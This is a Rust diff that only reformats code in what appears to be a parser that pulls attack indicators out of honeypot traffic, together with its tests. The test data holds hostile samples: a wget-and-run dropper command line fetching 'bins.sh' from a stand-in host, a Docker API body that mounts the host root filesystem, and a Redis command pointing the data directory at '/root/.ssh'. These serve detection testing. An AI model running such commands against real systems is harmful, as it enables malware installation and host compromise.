@@ -259,7 +259,10 @@ fn docker_path(target: &str) -> &str {
     let path = target.split('?').next().unwrap_or("");
     if let Some(rest) = path.strip_prefix("/v") {
         if let Some(slash) = rest.find('/') {
-            if rest[..slash].bytes().all(|b| b.is_ascii_digit() || b == b'.') {
+            if rest[..slash]
+                .bytes()
+                .all(|b| b.is_ascii_digit() || b == b'.')
+            {
                 return &rest[slash..];
             }
         }
@@ -314,7 +317,11 @@ mod tests {
         )]);
         assert!(has(&v, Field::Command, "chmod 777 bins.sh"));
         assert!(has(&v, Field::DownloadUrl, "http://x/bins.sh"));
-        assert!(has(&v, Field::CommandLine, "cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh"));
+        assert!(has(
+            &v,
+            Field::CommandLine,
+            "cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh"
+        ));
         assert_eq!(v.iter().filter(|(f, _)| *f == Field::Command).count(), 4);
     }
 
@@ -378,7 +385,11 @@ mod tests {
             },
         );
         assert!(has(&v, Field::DockerApi, "POST /containers/create"));
-        assert!(has(&v, Field::HttpBody, r#"{"HostConfig":{"Binds":["/:/mnt"]}}"#));
+        assert!(has(
+            &v,
+            Field::HttpBody,
+            r#"{"HostConfig":{"Binds":["/:/mnt"]}}"#
+        ));
         let v = req(
             Protocol::Elasticsearch,
             Request {
@@ -395,7 +406,12 @@ mod tests {
         let v = req(
             Protocol::Redis,
             Request {
-                args: vec!["config".into(), "set".into(), "dir".into(), "/root/.ssh".into()],
+                args: vec![
+                    "config".into(),
+                    "set".into(),
+                    "dir".into(),
+                    "/root/.ssh".into(),
+                ],
                 ..Default::default()
             },
         );
